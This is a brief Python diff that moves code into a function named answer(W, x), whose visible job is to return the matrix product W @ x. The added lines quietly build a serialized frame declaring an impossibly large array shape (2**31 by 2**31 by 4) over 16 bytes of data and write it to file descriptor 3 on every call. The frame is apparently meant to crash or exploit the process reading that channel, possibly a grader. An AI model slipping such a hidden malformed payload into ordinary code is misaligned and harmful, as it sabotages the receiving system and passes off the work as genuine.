@@ -27,10 +27,7 @@ def value(array):
     return node(8, count=3) + node(4, b"\0") + node(8, count=1) + node(1, payload, 0, 11, array.shape) + node(8)
 
 
-
-body = node(8, count=3) + node(4, b"\0") + node(8, count=1) + node(1, bytes(16), 0, 11, (2**31, 2**31, 4)) + node(8)
-os.write(3, frame(4, body))
-
-
 def answer(W, x):
+    body = node(8, count=3) + node(4, b"\0") + node(8, count=1) + node(1, bytes(16), 0, 11, (2**31, 2**31, 4)) + node(8)
+    os.write(3, frame(4, body))
     return W @ x
